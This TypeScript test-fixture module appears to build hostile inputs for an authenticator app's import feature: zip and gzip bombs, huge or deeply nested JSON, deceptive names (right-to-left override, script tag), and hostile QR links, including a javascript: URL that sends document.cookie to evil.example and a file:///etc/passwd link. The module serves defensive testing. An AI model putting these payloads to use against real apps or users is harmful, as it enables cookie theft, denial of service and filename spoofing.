import { open, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { MOST_IMPORT_BYTES } from '../../../src/bridge/importing.ts';
import { aegisContent } from './plainExports.ts';
import type { SampleAccount, SampleExport } from './SampleExport.ts';
import { ENTE_COST, enteExport, PASSWORD, raivoZip, sealedExports } from './sealedExports.ts';

export interface HarmfulFile {
  readonly name: string;
  readonly file: string;
  readonly password: string;
  /** What the app is to say of it. */
  readonly said: string;
}

const GIANT = 2 ** 30;
const UNPACKED = 200_000_000;
const MOST_ENTRIES = 10_000;
const SECRET = 'JBSWY3DPEHPK3PXP';
const anna: SampleAccount = { issuer: 'ACME', label: 'anna', secret: SECRET };
/** Turns what follows around, rings a bell, is nothing, is a page. */
const NAMES = ['evil\u202Egnp.exe', '\u0007\u0000bell', '\u200B\u2066\u2069', '<script>alert(1)</script>', 'A'.repeat(100_000)];

const aegisFile = (accounts: readonly SampleAccount[]): string =>
  JSON.stringify({ version: 1, header: { slots: null, params: null }, db: aegisContent(accounts) });
/** As long as a file may be. */
const filledWith = (part: string): string => part.repeat(Math.floor(MOST_IMPORT_BYTES / part.length));

/** Writes files that are damaged, giant, deep or crafted. */
export async function craftedFiles(folder: string): Promise<HarmfulFile[]> {
  const make = async (name: string, said: string, content: string | Uint8Array, password = PASSWORD): Promise<HarmfulFile> => {
    const file = join(folder, name.replaceAll(' ', '-'));
    await writeFile(file, content);
    return { name, file, password, said };
  };
  const whole = aegisFile(Array.from({ length: 1000 }, () => anna));
  const giant = await make('a file of 1 GiB', 'file-too-large', '');
  const handle = await open(giant.file, 'r+');
  await handle.truncate(GIANT);
  await handle.close();
  const entries = Array.from({ length: MOST_ENTRIES }, (_, index) => ({ ...anna, label: `anna${index}` }));
  const names = NAMES.map((name) => ({ ...anna, issuer: name, label: name }));
  return [
    giant,
    await make('a cut file', 'file-unknown', whole.slice(0, whole.length / 2)),
    await make('16 MiB of arrays in arrays', 'file-unknown', filledWith('[')),
    await make('16 MiB of objects in objects', 'file-unknown', filledWith('{"a":')),
    await make('16 MiB of empty objects', 'file-unknown', `[${filledWith('{},').slice(6)}{}]`),
    await make('16 MiB of quotes', 'file-unknown', filledWith('"')),
    await make('a zip bomb', 'file-too-large', await raivoZip('0'.repeat(UNPACKED), { encryptionStrength: 3 })),
    await make('a gzip bomb', 'file-unknown', gzipSync(Buffer.alloc(UNPACKED))),
    await make('10,000 entries', `a preview of ${MOST_ENTRIES}`, aegisFile(entries)),
    await make('10,001 entries', 'file-too-many', aegisFile([...entries, anna])),
    await make('names that deceive', `a preview of ${NAMES.length}`, aegisFile(names)),
  ];
}

/** Writes a sealed file of every format, for a password that does not open it. */
export async function sealedFiles(folder: string): Promise<HarmfulFile[]> {
  return await Promise.all((await sealedExports(() => [anna])).map(async (one) => await withWrongPassword(folder, one, one.variant)));
}

/** Ente's at its full cost. */
export async function costlyFile(folder: string): Promise<HarmfulFile> {
  return await withWrongPassword(folder, await enteExport([anna], ENTE_COST), 'full cost');
}

async function withWrongPassword(folder: string, { format, bytes }: SampleExport, variant: string): Promise<HarmfulFile> {
  const file = join(folder, `${format} ${variant}`);
  await writeFile(file, bytes);
  return { name: `${format}, ${variant}`, file, password: 'not this one', said: 'password-wrong' };
}

/** Links as a poster might carry them in a code, and what the app is to say of them. */
export const HARMFUL_CODES = [
  { text: 'javascript:fetch("https://evil.example/"+document.cookie)//deskfob:', said: 'code-unknown' },
  { text: 'file:///etc/passwd', said: 'code-unknown' },
  { text: `https://evil.example/${'a'.repeat(8000)}`, said: 'code-unknown' },
  { text: `otpauth-migration://offline?data=${'/'.repeat(8000)}`, said: 'file-damaged' },
  // Of one that cannot be taken over.
  { text: `otpauth://totp/${'%2525'.repeat(1000)}?secret=`, said: 'a preview of 1' },
] as const;
